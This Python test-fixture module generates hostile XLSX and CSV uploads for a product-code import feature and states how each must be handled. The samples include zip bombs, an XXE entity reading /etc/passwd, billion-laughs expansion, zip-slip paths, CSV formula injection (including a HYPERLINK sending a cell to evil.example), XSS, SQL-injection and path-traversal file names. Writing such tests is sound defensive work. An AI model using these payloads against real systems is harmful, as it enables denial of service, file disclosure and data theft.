"""Files that somebody could hand to staff, or staff could pick by mistake, to be loaded as codes.

They are for a product whose codes have the shape EXA#############. `FILES` has a function for
each, so that the large ones are made only where they are used. Nothing but the standard library
makes them, so that no writer can be too kind.
"""

import io
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from functools import cache
from pathlib import Path

CODES = [f"EXA20241100{number:05}" for number in range(7919, 7969)]
CSV = "SN code\n" + "".join(f"{code}\n" for code in CODES)
MEGABYTE = 1024 * 1024
# Where files that name a path of their own would end up.
OUTSIDE = Path(tempfile.gettempdir()) / "recall-check-was-here"


class Must(Enum):
    """It says what must become of a file. In no case is anything live, and no error page is
    shown."""

    REFUSE = "It is refused whole with a sentence that says why; no row of it is stored."
    REFUSE_ROWS = "Its rows are refused one by one, with their numbers; no code is made of them."
    DO_NO_HARM = "It is read or refused; nothing is written elsewhere, and memory stays small."
    READ = "Its codes are read like those of any file; its name is kept and shown as plain text."


@dataclass(frozen=True)
class HostileFile:
    """`name` as the browser sends it."""

    name: str
    content: bytes
    must: Must


FILES: list[Callable[[], HostileFile]] = []


def hostile(function: Callable[[], HostileFile]) -> Callable[[], HostileFile]:
    FILES.append(function)
    return function


# Workbooks --------------------------------------------------------------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
PARTS = {
    "[Content_Types].xml": f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
    f'.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{_TYPES}.sheet.main'
    f'+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_TYPES}.worksheet+xml"/>'
    "</Types>",
    "_rels/.rels": f'{_HEAD}<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" '
    f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'{_HEAD}<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
    '<sheet name="Codes" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'{_HEAD}<Relationships xmlns="{_RELATIONS}"><Relationship '
    f'Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}
SHEET = "xl/worksheets/sheet1.xml"


def text_cell(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def rows(cells: list[str]) -> str:
    return "".join(f"<row>{cell}</row>" for cell in cells)


def sheet(data: str, doctype: str = "", before: str = "") -> str:
    return (
        f'{_HEAD}{doctype}<worksheet xmlns="{_MAIN}">{before}'
        f"<sheetData>{data}</sheetData></worksheet>"
    )


def workbook(sheet_xml: str, more: dict[str, bytes] | None = None) -> bytes:
    """An XLSX file with one sheet, and whatever else it is made to hold."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**PARTS, SHEET: sheet_xml, **(more or {})}.items():
            archive.writestr(name, text)
    return file.getvalue()


def plain_workbook() -> bytes:
    """A good one, to be spoiled; alone it must be read."""
    return workbook(sheet(rows([text_cell(text) for text in ["SN code", *CODES]])))


def _refused(content: bytes, name: str = "codes.xlsx") -> HostileFile:
    return HostileFile(name, content, Must.REFUSE)


@hostile
@cache
def workbook_of_300_megabytes() -> HostileFile:
    """Some 300 kilobytes as sent."""
    file = io.BytesIO()
    start, end = sheet("|").split("|")
    row = f"<row>{text_cell(CODES[0])}</row>".encode()
    chunk = row * (MEGABYTE // len(row) + 1)
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        for name, text in PARTS.items():
            archive.writestr(name, text)
        with archive.open(SHEET, "w", force_zip64=True) as part:
            part.write(start.encode())
            for _ in range(300):
                part.write(chunk)
            part.write(end.encode())
    return _refused(file.getvalue())


@hostile
def workbook_that_understates_its_size() -> HostileFile:
    """The directory says 1,000 bytes for a sheet of 50 megabytes."""
    content = bytearray(workbook(sheet(rows([text_cell(CODES[0])] * 1_000_000))))
    place = content.rindex(b"PK\x01\x02")  # the sheet is the last entry
    assert content[place + 46 :].startswith(SHEET.encode())
    content[place + 24 : place + 28] = (1000).to_bytes(4, "little")
    return _refused(bytes(content))


@hostile
def workbook_with_an_external_entity() -> HostileFile:
    doctype = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return _refused(workbook(sheet(rows([text_cell("SN code"), text_cell("&e;")]), doctype)))


@hostile
def workbook_of_a_billion_laughs() -> HostileFile:
    entities = '<!ENTITY l0 "EXA2024110007919">' + "".join(
        f'<!ENTITY l{depth} "{f"&l{depth - 1};" * 10}">' for depth in range(1, 10)
    )
    doctype = f"<!DOCTYPE worksheet [{entities}]>"
    return _refused(workbook(sheet(rows([text_cell("SN code"), text_cell("&l9;")]), doctype)))


@hostile
def workbook_with_paths_upwards() -> HostileFile:
    upwards = {f"{'../' * depth}{str(OUTSIDE)[1:]}": b"out" for depth in range(1, 10)}
    absolute = {str(OUTSIDE): b"out"}
    data = sheet(rows([text_cell(text) for text in ["SN code", *CODES]]))
    return HostileFile("codes.xlsx", workbook(data, upwards | absolute), Must.DO_NO_HARM)


@hostile
def workbook_of_10_000_entries() -> HostileFile:
    data = sheet(rows([text_cell(text) for text in ["SN code", *CODES]]))
    return _refused(workbook(data, {f"xl/media/{number}.png": b"" for number in range(10_000)}))


@hostile
def workbook_with_encrypted_entries() -> HostileFile:
    """The flag of encryption is set; what it is about is not known without a password."""
    content = bytearray(plain_workbook())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return _refused(bytes(content))


@hostile
def workbook_with_a_password() -> HostileFile:
    """As Excel saves one: a compound file, which old .xls files are too."""
    return _refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))


@hostile
def workbook_cut_off() -> HostileFile:
    content = plain_workbook()
    return _refused(content[: len(content) // 2])


@hostile
def workbook_that_claims_all_cells() -> HostileFile:
    """Readers that make room for what it claims need hundreds of gigabytes."""
    claim = '<dimension ref="A1:XFD1048576"/>'
    far = f'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>{CODES[0]}</t></is></c></row>'
    content = workbook(sheet(rows([text_cell("SN code")]) + far, before=claim))
    return HostileFile("codes.xlsx", content, Must.DO_NO_HARM)


@hostile
def workbook_of_rounded_numbers() -> HostileFile:
    """Codes kept as numbers: of the last characters of each nothing is left."""
    cells = [f"<c><v>{number}</v></c>" for number in ("5.7123456789012346E+17", "1E+16", "1.5")]
    content = workbook(sheet(rows([text_cell("SN code"), *cells])))
    return HostileFile("codes.xlsx", content, Must.REFUSE_ROWS)


@hostile
def workbook_of_formulas() -> HostileFile:
    """A formula without the value that it had, and one that failed."""
    cells = [
        "<c><f>HYPERLINK(&quot;https://evil.example&quot;)</f></c>",
        '<c t="e"><v>#REF!</v></c>',
    ]
    content = workbook(sheet(rows([text_cell("SN code"), *cells])))
    return HostileFile("codes.xlsx", content, Must.REFUSE_ROWS)


@hostile
def text_named_workbook() -> HostileFile:
    return _refused(CSV.encode())


# Other files under a wrong name -----------------------------------------------------------------


def _csv(content: bytes, must: Must = Must.REFUSE, name: str = "codes.csv") -> HostileFile:
    return HostileFile(name, content, must)


@hostile
def picture_named_csv() -> HostileFile:
    start = (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    )
    return _csv(start + bytes(range(256)) * 8)


@hostile
def workbook_named_csv() -> HostileFile:
    return _csv(plain_workbook())


@hostile
def page_named_csv() -> HostileFile:
    """Return what a browser saves where a sign-in had run out."""
    page = "<!DOCTYPE html><title>Sign in</title><script>alert(1)</script><p>Sign in to go on.</p>"
    return _csv(page.encode())


@hostile
def program_named_csv() -> HostileFile:
    return _csv(b"\x7fELF\x02\x01\x01" + bytes(64) + CSV.encode())


# Text -------------------------------------------------------------------------------------------


@hostile
def nul_bytes() -> HostileFile:
    return _csv(CSV.replace("2024", "2024\0").encode())


@hostile
def one_line_of_30_megabytes() -> HostileFile:
    return _csv(b"SN code\n" + b"A1" * (15 * MEGABYTE))


@hostile
def a_quote_that_never_ends() -> HostileFile:
    """All that follows is one cell: codes in it would be lost in silence."""
    return _csv(f'SN code\n{CODES[0]}\n"{CSV * 1000}'.encode())


@hostile
def formulas() -> HostileFile:
    cells = [
        '=HYPERLINK("https://evil.example?"&A1,"code")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "|calc",
    ]
    quoted = "".join('"' + cell.replace('"', '""') + '"\n' for cell in cells)
    return _csv(f"SN code\n{quoted}".encode(), Must.REFUSE_ROWS)


@hostile
def markup() -> HostileFile:
    cells = ["<script>alert(1)</script>", "'; DROP TABLE recalls_affectedcode; --", "{{ 7|add:7 }}"]
    return _csv("".join(f"{cell}\n" for cell in ["SN code", *cells]).encode(), Must.REFUSE_ROWS)


@hostile
def utf_16_without_a_mark() -> HostileFile:
    return _csv(CSV.encode("utf-16-le"))


@hostile
def utf_7() -> HostileFile:
    """Every byte is ASCII; read as that, its letters turn into others."""
    return _csv(b"SN code\n+AEUAWABB-2024110007919\n+ADw-script+AD4-\n", Must.REFUSE_ROWS)


@hostile
def latin_1() -> HostileFile:
    return _csv("Numéro de série\n23é2100000000000\n".encode("latin-1"))


@hostile
def ebcdic() -> HostileFile:
    return _csv(CSV.encode("cp500"))


@hostile
def signs_of_other_scripts() -> HostileFile:
    """A letter that no look-alike stands for, and one with an accent."""
    return _csv("SN code\nEXÄ2024110007919\nEXAЖ2024110007919\n".encode(), Must.REFUSE_ROWS)


@hostile
def nothing() -> HostileFile:
    return _csv(b"")


@hostile
def only_a_mark_of_order() -> HostileFile:
    return _csv(b"\xef\xbb\xbf")


@hostile
def only_a_header() -> HostileFile:
    return _csv(b"SN code\n")


@hostile
def only_blank_lines() -> HostileFile:
    return _csv(b"\r\n" * 10_000)


@hostile
def a_thousand_columns() -> HostileFile:
    return _csv("".join(",".join([code] * 1000) + "\n" for code in CODES).encode())


# Names ------------------------------------------------------------------------------------------

NAMES = {
    "path": "../../../../etc/cron.d/codes.csv",
    "windows path": "C:\\Windows\\System32\\codes.csv",
    "nul": "codes.csv\0.exe",
    "right to left": "codes\u202evsc.exe.csv",
    "300 characters": "c" * 296 + ".csv",
    "formula": "=HYPERLINK(A1)&.csv",
    "markup": "<img src=x onerror=alert(1)>.csv",
    "line break": "codes\r\nX-Header: 1\r\n.csv",
    "none": "",
}


def names() -> Iterator[HostileFile]:
    """A good file under each bad name. A browser cuts paths off; nothing else has to."""
    for name in NAMES.values():
        yield HostileFile(name, CSV.encode(), Must.READ)


# More than memory holds -------------------------------------------------------------------------
# Each asks a reader for far more than it is itself. `GREEDY` has them all; some read, most refused.

GREEDY: list[Callable[[], HostileFile]] = []


def greedy(function: Callable[[], HostileFile]) -> Callable[[], HostileFile]:
    GREEDY.append(function)
    return function


def _cell(place: str, text: str = "") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text or CODES[0]}</t></is></c>'


def _shared(strings: list[str]) -> dict[str, bytes]:
    items = "".join(f"<si><t>{text}</t></si>" for text in strings)
    relation = (
        f'<Relationship Id="rId2" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    )
    return {
        "xl/sharedStrings.xml": f'{_HEAD}<sst xmlns="{_MAIN}">{items}</sst>'.encode(),
        "xl/_rels/workbook.xml.rels": PARTS["xl/_rels/workbook.xml.rels"]
        .replace("</Relationships>", f"{relation}</Relationships>")
        .encode(),
    }


def _uses(count: int, index: int = 0) -> str:
    return "".join(f'<row><c t="s"><v>{index}</v></c></row>' for _ in range(count))


def _of_places(*places: str, prefix: str = "") -> HostileFile:
    data = "".join(f"<row>{_cell(place)}</row>" for place in places)
    return _refused(workbook(sheet(prefix + data)))


@greedy
def a_column_of_fifteen_letters() -> HostileFile:
    """The reader asks for 2.28 terabytes."""
    return _of_places("A1", "AAAAAAAAAAAAAAA1")


@greedy
def a_column_just_outside() -> HostileFile:
    return _of_places("A1", "XFE1")


@greedy
def a_row_just_outside() -> HostileFile:
    return _of_places("A1", "A1048577")


@greedy
def a_row_of_seven_nines() -> HostileFile:
    return _of_places("A1", "A9999999")


@greedy
def a_row_beyond_all_numbers() -> HostileFile:
    return _of_places("A1", "A99999999999999999999")


@greedy
def row_zero() -> HostileFile:
    return _of_places("A0")


@greedy
def a_place_behind_a_long_attribute() -> HostileFile:
    """It stands further from the start of its tag than anybody looks at once."""
    far = f'<row><c x="{"y" * 3_000_000}" r="AAAAAAAAAAAA1"><v>1</v></c></row>'
    return _refused(workbook(sheet(far)))


@greedy
def a_place_in_character_references() -> HostileFile:
    return _of_places("A1", "&#65;&#65;&#65;&#65;&#65;&#65;&#65;1")


@greedy
def two_far_corners() -> HostileFile:
    return _of_places("A1", "S1048576")


@greedy
def two_far_corners_in_a_prefixed_namespace() -> HostileFile:
    text = sheet("<row>" + _cell("A1") + _cell("XFD1048576") + "</row>")
    for name in ("worksheet", "sheetData", "row", "c", "is", "t"):
        text = text.replace(f"<{name}>", f"<x:{name}>").replace(f"</{name}>", f"</x:{name}>")
        text = text.replace(f"<{name} ", f"<x:{name} ")
    return _refused(workbook(text.replace("xmlns=", "xmlns:x=")))


@greedy
def a_far_row_and_many_columns() -> HostileFile:
    return _of_places("A1", *(f"{letter}1000000" for letter in "BCDEFGHIJ"))


@greedy
def endless_columns() -> HostileFile:
    return _refused(workbook(sheet(f"<row>{text_cell(CODES[0]) * 100_000}</row>")))


@greedy
def one_long_string_in_20_000_cells() -> HostileFile:
    """Over 6 gigabytes once each cell has its own copy."""
    return _refused(workbook(sheet(_uses(20_000)), _shared(["A" * 1_000_000])))


@greedy
def strings_of_excels_own_limit_in_100_000_cells() -> HostileFile:
    return _refused(workbook(sheet(_uses(100_000)), _shared(["A" * 32_000])))


@greedy
def one_long_string_in_few_cells() -> HostileFile:
    return _refused(workbook(sheet(_uses(3)), _shared(["A" * 20_000_000])))


@greedy
def five_million_strings() -> HostileFile:
    """Each of them empty, and each takes room."""
    return _refused(workbook(sheet(_uses(1)), _shared([""] * 5_000_000)))


@greedy
def six_million_cells() -> HostileFile:
    row = f"<row>{'<c><v>1</v></c>' * 1000}</row>"
    return _refused(workbook(sheet(row * 6000)))


@greedy
def deep_xml() -> HostileFile:
    return _refused(workbook(sheet("<row>" + "<c>" * 1_000_000 + "</c>" * 1_000_000 + "</row>")))


@greedy
def entities_within_entities() -> HostileFile:
    names = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 50}">' for n in range(8))
    doctype = f'<!DOCTYPE worksheet [<!ENTITY e0 "{"A" * 1000}">{names}]>'
    return _refused(workbook(sheet(rows([text_cell("&e8;")]), doctype)))


@greedy
def an_entry_in_the_place_of_others() -> HostileFile:
    """The directory names the same packed megabytes a hundred times."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**PARTS, SHEET: sheet(" " * 10_000_000)}.items():
            archive.writestr(name, text)
        (entry,) = [entry for entry in archive.infolist() if entry.filename == SHEET]
        for number in range(100):
            copy = zipfile.ZipInfo(f"xl/worksheets/more{number}.xml")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(copy, name, getattr(entry, name))
            archive.filelist.append(copy)
        archive._didModify = True
    return _refused(file.getvalue())


@greedy
def many_sheets() -> HostileFile:
    """All of them are the one part."""
    sheets = "".join(
        f'<sheet name="Codes {number}" sheetId="{number}" r:id="rId1"/>'
        for number in range(1, 20_001)
    )
    book = PARTS["xl/workbook.xml"].replace('<sheet name="Codes" sheetId="1" r:id="rId1"/>', sheets)
    data = sheet(rows([text_cell(text) for text in ["SN code", *CODES]]))
    return _refused(workbook(data, {"xl/workbook.xml": book.encode()}))


@greedy
def a_sheet_with_a_name_of_a_megabyte() -> HostileFile:
    book = PARTS["xl/workbook.xml"].replace('"Codes"', f'"{"C" * MEGABYTE}"')
    data = sheet(rows([text_cell(text) for text in ["SN code", *CODES]]))
    return _refused(workbook(data, {"xl/workbook.xml": book.encode()}))


@greedy
def wide_first_rows_of_many_sheets() -> HostileFile:
    """Each sheet is within all limits of one."""
    sheets = "".join(
        f'<sheet name="Codes {number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, 91)
    )
    book = PARTS["xl/workbook.xml"].replace('<sheet name="Codes" sheetId="1" r:id="rId1"/>', sheets)
    row = f"<row>{''.join(text_cell(f'EXA{number}') for number in range(900))}</row>"
    return _refused(workbook(sheet(row * 100), {"xl/workbook.xml": book.encode()}))


@greedy
def a_million_numbers_of_formats() -> HostileFile:
    styles = (
        f'{_HEAD}<styleSheet xmlns="{_MAIN}"><numFmts>'
        + '<numFmt numFmtId="200" formatCode="yyyy"/>' * 2_000_000
        + "</numFmts><cellXfs>"
        + '<xf numFmtId="200"/>' * 1_000_000
        + "</cellXfs></styleSheet>"
    )
    relation = f'<Relationship Id="rId3" Type="{_OFFICE}/styles" Target="styles.xml"/>'
    more = {
        "xl/styles.xml": styles.encode(),
        "xl/_rels/workbook.xml.rels": PARTS["xl/_rels/workbook.xml.rels"]
        .replace("</Relationships>", f"{relation}</Relationships>")
        .encode(),
    }
    data = sheet(rows([text_cell(text) for text in ["SN code", *CODES]]))
    return HostileFile("codes.xlsx", workbook(data, more), Must.DO_NO_HARM)


@greedy
def one_line_of_24_megabytes() -> HostileFile:
    return _csv(b"SN code\n" + b"A1" * (12 * MEGABYTE))


@greedy
def a_million_columns() -> HostileFile:
    return _csv(b"SN code\n" + b",".join([CODES[0].encode()] * 1_000_000))


@greedy
def columns_on_many_lines() -> HostileFile:
    """One row for a spreadsheet, since each line break is within quotation marks."""
    return _csv(b'SN code\n"A\n' + b'","\n' * 3_000_000)


@greedy
def many_wide_rows() -> HostileFile:
    row = ",".join(f"EX{number}" for number in range(5000))
    return _csv("".join(f"{row}\n" for _ in range(700)).encode())


@greedy
def nuls_without_end() -> HostileFile:
    return _csv(b"SN code\n" + bytes(20 * MEGABYTE))


@greedy
def a_hundred_ranges_of_100_000_codes() -> HostileFile:
    """3.4 kilobytes, 10,000,000 codes."""
    lines = (f"EXA{number:03}0000000000,EXA{number:03}0000099999" for number in range(100, 200))
    return _csv("\n".join(["First SN,Last SN", *lines]).encode())
